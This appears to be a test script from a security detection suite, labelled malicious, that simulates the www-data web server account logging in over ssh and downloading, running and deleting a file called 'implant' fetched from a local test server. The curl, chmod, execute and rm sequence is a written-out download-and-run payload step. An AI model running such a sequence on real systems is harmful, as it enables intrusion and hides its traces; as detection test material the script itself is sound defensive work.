#!/bin/sh
# malicious: the web server account (www-data) logs in over ssh with a terminal and fetches a payload
. "$(dirname "$0")/../../lib.sh"
ssh_tty www-data <<'CMDS'
id
curl -s -o /tmp/.w http://127.0.0.1:8080/implant
chmod +x /tmp/.w; /tmp/.w; rm -f /tmp/.w
exit
CMDS
